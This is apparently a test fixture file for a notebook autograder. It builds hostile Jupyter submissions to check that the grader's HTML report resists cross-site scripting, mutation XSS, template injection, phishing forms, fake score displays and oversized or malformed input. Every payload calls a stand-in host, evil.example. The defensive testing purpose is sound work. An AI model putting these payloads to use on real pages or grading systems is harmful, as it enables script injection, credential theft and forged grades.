"""Notebooks that try to run something in the browser of whoever opens the report.

Each tries it in its own way, and all in the same words: where one succeeds, ``window.pwned`` is set,
the title becomes PWNED, a dialog opens, or a request leaves for evil.example.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

from grader.model import Submission

from .samples import BACKWARD, FORWARD, SINGLE_STEP, ZERO_PAD, code_cell, markdown_cell, submission

JS = "window.pwned=1;document.title='PWNED';alert(1);fetch('https://evil.example/')"
PNG = base64.b64encode(
    bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c6360000002000001e221bc330000000049454e44ae426082"
    )
).decode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script><a href="javascript:{JS}"><text>x</text></a></svg>'


def output(data: dict[str, Any], **more: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": {}, **more}


def with_cells(
    *cells: Any, name: str = "mallory.ipynb", metadata: dict[str, Any] | None = None
) -> Submission:
    """The hostile cells before, between and after four graded functions."""
    functions = [code_cell(source) for source in (ZERO_PAD, SINGLE_STEP, FORWARD, BACKWARD)]
    first = code_cell("import numpy as np")
    plain = submission([first, *functions], name=name)
    raw = json.dumps(
        {"cells": [first, *functions, *cells], "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5}
    )
    return Submission(
        plain.name, plain.sha256, "ipynb", plain.cells, raw=raw.encode("utf-8", "surrogatepass")
    )


def markdown(text: str, **more: Any) -> Submission:
    return with_cells(markdown_cell(text, **more))


def displayed(*bundles: dict[str, Any]) -> Submission:
    """The same outputs in a cell of their own and in a graded one."""
    notebook = with_cells(code_cell("show()", [output(b) for b in bundles]))
    content = json.loads(notebook.raw)
    content["cells"][3]["outputs"] = [output(b) for b in bundles]
    return Submission(notebook.name, "", "ipynb", notebook.cells, raw=json.dumps(content).encode())


def script() -> Submission:
    return markdown(
        f"# Hi\n<script>{JS}</script>\n<SCRIPT SRC=https://evil.example/x.js></SCRIPT>\n<scr<script>ipt>{JS}</scr</script>ipt>"
    )


def event_handlers() -> Submission:
    return markdown(
        f'<img src=x onerror="{JS}"> <b onmouseover="{JS}">b</b> <details open ontoggle="{JS}">x</details>'
        f'<body onload="{JS}"> <input autofocus onfocus="{JS}"> <img/src=x/onerror={JS!r}>'
        f'<p style="animation:x" onanimationstart="{JS}">x</p>'
    )


def svg() -> Submission:
    return markdown(
        f"{SVG}\n\n<svg><animate onbegin='{JS}' attributeName=x dur=1s></svg>\n\n![x](data:image/svg+xml;base64,{base64.b64encode(SVG.encode()).decode()})"
    )


def svg_output() -> Submission:
    return displayed({"image/svg+xml": SVG}, {"text/html": SVG}, {"image/svg+xml": [SVG]})


def iframes() -> Submission:
    return markdown(
        f'<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>parent.{JS}</script>"></iframe>'
        f'<iframe src="javascript:parent.{JS}"></iframe><frameset><frame src="https://evil.example/"></frameset>'
        '<portal src="https://evil.example/"></portal>'
    )


def script_links() -> Submission:
    return markdown(
        f"[a](javascript:{JS}) [b](JaVaScRiPt:{JS}) [c](java\tscript:{JS}) [d](&#106;avascript:{JS})"
        f'\n\n<a href="javascript:{JS}">e</a> <a href=" &#x6a;avascript:{JS}">f</a> <a href="vbscript:{JS}">g</a>'
        f'<a href="java&#10;script:{JS}">h</a> <javascript:{JS}> <a href="//evil.example/">i</a>'
    )


def data_links() -> Submission:
    page = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
    return markdown(
        f"[a](data:text/html;base64,{page}) ![b](data:text/html;base64,{page})\n\n"
        f'<a href="data:text/html,<script>{JS}</script>">c</a><img src="data:text/html;base64,{page}">'
        f'<a href="file:///etc/passwd">d</a><a href="blob:x">e</a>'
    )


def style() -> Submission:
    return markdown(
        "<style>body{display:none} @import url(https://evil.example/x.css);"
        ".feedback::after{content:'40 of 40 points'}</style>"
        '<link rel="stylesheet" href="https://evil.example/x.css">'
        '<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">100 of 100 points</div>'
        '<div class="feedback correct"><h3>Feedback conv_forward <span class="badge correct">correct</span></h3></div>'
    )


def meta() -> Submission:
    return markdown(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">'
        '<title>PWNED</title><meta http-equiv="Content-Security-Policy" content="default-src *">'
    )


def forms() -> Submission:
    return markdown(
        '<form action="https://evil.example/" id=f><input name=password><button>Log in</button></form>'
        f'<button form=f formaction="javascript:{JS}">x</button><isindex action="javascript:{JS}">'
        "<select><option>a</option></select><textarea autofocus></textarea>"
    )


def plugins() -> Submission:
    return markdown(
        f'<object data="javascript:{JS}"></object><embed src="https://evil.example/x.swf">'
        f'<applet code="x"></applet><object type="text/html" data="data:text/html,<script>{JS}</script>"></object>'
    )


def mutations() -> Submission:
    """HTML that turns into something else when it is parsed a second time."""
    return markdown(
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS!r}&gt;">\n\n'
        f'<noscript><p title="</noscript><img src=x onerror={JS!r}>">\n\n'
        f'<svg></p><style><a id="</style><img src=1 onerror={JS!r}>">\n\n'
        f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={JS!r} src=1>">\n\n'
        f"<p title='<!--'></p><!--><img src=x onerror={JS!r}>-->\n\n<template><img src=x onerror={JS!r}></template>"
    )


def math_links() -> Submission:
    return markdown(
        f'<math href="javascript:{JS}"><mi xlink:href="javascript:{JS}">x</mi><maction actiontype="statusline">y</maction></math>'
        f"\n\n$$ \\href{{javascript:{JS}}}{{x}} </code><script>{JS}</script> $$ and $<img src=x onerror='{JS}'>$"
        f"\n\n\\begin{{equation}}<script>{JS}</script>\\end{{equation}}"
    )


def html_output() -> Submission:
    return displayed(
        {"text/html": f"<table><tr><td onclick='{JS}'>1<script>{JS}</script></td></tr></table>"},
        {"text/html": [f"<div onload='{JS}'>", f"<script>{JS}</script>a</div>"], "text/plain": "a"},
        {"text/markdown": f"<script>{JS}</script>", "text/latex": f"$</code><script>{JS}</script>$"},
    )


def javascript_output() -> Submission:
    return displayed({"application/javascript": JS}, {"text/plain": f"<script>{JS}</script>"})


def widgets() -> Submission:
    state = {
        "state": {"1": {"model_name": "HTMLModel", "state": {"value": f"<script>{JS}</script>"}}},
        "version_major": 2,
    }
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "1", "version_major": 2}}
    notebook = displayed(view, {**view, "text/plain": "HTML(value='')"})
    content = json.loads(notebook.raw)
    content["metadata"] = {"widgets": {"application/vnd.jupyter.widget-state+json": state}}
    return Submission(notebook.name, "", "ipynb", notebook.cells, raw=json.dumps(content).encode())


def attachments() -> Submission:
    bad = base64.b64encode(f"<script>{JS}</script>".encode()).decode()
    return markdown(
        "![a](attachment:a.svg) ![b](attachment:b.png) ![c](attachment:c.png) ![d](attachment:missing.png)"
        " ![e](attachment:e) ![ok](attachment:ok.png)",
        attachments={
            "a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
            "b.png": {"image/png": bad},
            "c.png": {f'image/png" onerror="{JS}': PNG},
            "e": "not a bundle",
            "ok.png": {"image/png": PNG},
        },
    )


def pictures() -> Submission:
    return displayed(
        {"image/png": f'" onerror="{JS}'},
        {"image/png": PNG + f'"><script>{JS}</script>'},
        {"image/jpeg": PNG},
        {"image/png": {"not": "text"}},
        {"image/png": PNG},
    )


def leaving_the_cell() -> Submission:
    breakout = f"</code></pre></div></section></main></body></html><!-- --><script>{JS}</script>\n<!--"
    notebook = with_cells(
        markdown_cell(breakout),
        {"cell_type": "raw", "metadata": {}, "source": breakout},
        code_cell(
            f"# {breakout}\nx = '''{breakout}'''",
            [{"output_type": "stream", "name": "stdout", "text": breakout}],
        ),
        markdown_cell("```html\n" + breakout + "\n```\n\n`" + breakout + "`"),
        markdown_cell('```"><script>' + JS + "</script>\nx\n```\n\n```mermaid\n" + breakout + "\n```"),
    )
    content = json.loads(notebook.raw)
    content["cells"][3]["source"] += f"\n# {breakout}"
    return Submission(notebook.name, "", "ipynb", notebook.cells, raw=json.dumps(content).encode())


def tracebacks() -> Submission:
    error = {
        "output_type": "error",
        "ename": f"<script>{JS}</script>",
        "evalue": f"<img src=x onerror={JS!r}>",
        "traceback": [f"\x1b[31m<script>{JS}</script>\x1b]8;;javascript:{JS}\x07x\x1b]8;;\x07", 7, None],
    }
    return with_cells(code_cell("1/0", [error, {**error, "traceback": None}, {**error, "traceback": []}]))


def clobbering() -> Submission:
    return markdown(
        '<a id="feedback-zero_pad" name="first">x</a><img name="body" id="work"><form id="document"></form>'
        "<h1 id='overview'>Score 100</h1><a href='#feedback-zero_pad'>here</a><div class=skip>y</div>"
        "\n\n## Feedback conv_forward ✓ correct 30 of 30 points"
    )


def remote() -> Submission:
    return markdown(
        "![t](https://evil.example/t.png) <img src=https://evil.example/t.png srcset='https://evil.example/u.png 2x'>"
        "<picture><source srcset=https://evil.example/v.png></picture><video src=https://evil.example/v.mp4 autoplay poster=https://evil.example/p.png></video>"
        "<audio src=https://evil.example/a.mp3 autoplay></audio><link rel=prefetch href=https://evil.example/>"
        "<table background=https://evil.example/b.png><tr><td background=https://evil.example/c.png>x</td></tr></table>"
        "<a href='https://ok.example/' ping='https://evil.example/' target=_top>link</a> <bgsound src=https://evil.example/>"
    )


def templates() -> Submission:
    text = "{{ 7 * 7 }} {% include 'page.html.j2' %} {{ ''.__class__.__mro__ }} ${alert(1)} <%= 7 %> {{constructor.constructor('alert(1)')()}}"
    return with_cells(markdown_cell(text), code_cell(f"# {text}"), name="{{ 7 * 7 }}.ipynb")


def names() -> Submission:
    name = f'"><script>{JS}</script><img src=x onerror={JS!r}>\u202egpj.ipynb'
    evil = f"</title><script>{JS}</script>"
    return with_cells(
        {**code_cell("x = 1"), "metadata": {"name": evil, "tags": [evil]}, "id": evil},
        name=name,
        metadata={
            "title": evil,
            "kernelspec": {"language": evil, "name": evil},
            "language_info": {"name": evil},
        },
    )


def odd_shapes() -> Submission:
    return with_cells(
        None,
        7,
        {},
        {"cell_type": "code", "source": 7, "outputs": "x", "metadata": None},
        {"cell_type": "code", "source": ["a", 7, None], "outputs": [7, None, {}, {"output_type": "stream"}]},
        {"cell_type": "markdown", "source": ["# a\n", None], "attachments": 7},
        {"cell_type": "heading", "level": 9, "source": "h"},
        {"cell_type": f"<script>{JS}</script>", "source": f"<script>{JS}</script>"},
        code_cell("x", [output({"text/plain": 7, "image/png": 7, f"<script>{JS}</script>": "x"})]),
        code_cell(
            "x", [output({f"<script>{JS}</script>": "x"}), {"output_type": "display_data", "data": None}]
        ),
    )


def control_characters() -> Submission:
    text = "a\x00b\x08c\u202ed\u2066e\ud800f\ufffeg\x1b[2Jh\x7f"
    return with_cells(
        markdown_cell(text), code_cell(f"# {text}", [{"output_type": "stream", "text": [text]}])
    )


def deep_markdown() -> Submission:
    return with_cells(
        *(
            markdown_cell(text)
            for text in (
                ">" * 5_000 + "x",
                "- " * 5_000 + "x",
                "[" * 10_000 + "](" * 5_000,
                "*a " * 6_000,
                "**a_" * 4_000,
                "`" * 9_999 + "a" + "`" * 9_998,
                "<div>" * 3_000,
                "<table><tr><td>" * 1_000,
                "$" * 9_999,
                "|a" * 5_000 + "\n" + "|-" * 5_000 + "\n",
                "# a\n" * 4_000,
                "<a href='" * 2_000,
                "\\begin{a}" * 2_000,
            )
        )
    )


def huge_outputs() -> Submission:
    """Twenty megabytes of prints, tables and pictures."""
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(2_000_000)).decode()
    small = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(150_000)).decode()
    line = "<0.123456789 & 0.987654321>\n"
    return with_cells(
        code_cell("print(x)", [{"output_type": "stream", "name": "stdout", "text": line * 250_000}]),
        code_cell("print(x)", [{"output_type": "stream", "name": "stdout", "text": [line] * 100_000}]),
        code_cell(
            "show()", [output({"text/html": "<table>" + "<tr><td>1</td></tr>" * 100_000 + "</table>"})]
        ),
        code_cell("plot()", [output({"image/png": picture})]),
        *(code_cell("plot()", [output({"image/png": small})]) for _ in range(20)),
        *(code_cell("loop()", [output({"text/plain": line * 40})] * 300) for _ in range(3)),
        code_cell("y = 1  # <&>\n" * 100_000),
        markdown_cell("**a** <b>b</b>\n\n" * 60_000),
        *(markdown_cell("**a** <b>b</b> `c`\n\n" * 800) for _ in range(40)),
        *(code_cell("for i in range(9): print('<', i)\n" * 500) for _ in range(20)),
    )


HOSTILE: dict[str, Callable[[], Submission]] = {
    make.__name__.replace("_", " "): make
    for make in (
        script, event_handlers, svg, svg_output, iframes, script_links, data_links, style, meta, forms, plugins,
        mutations, math_links, html_output, javascript_output, widgets, attachments, pictures, leaving_the_cell,
        tracebacks, clobbering, remote, templates, names, odd_shapes, control_characters, deep_markdown,
        huge_outputs,
    )
}  # fmt: skip
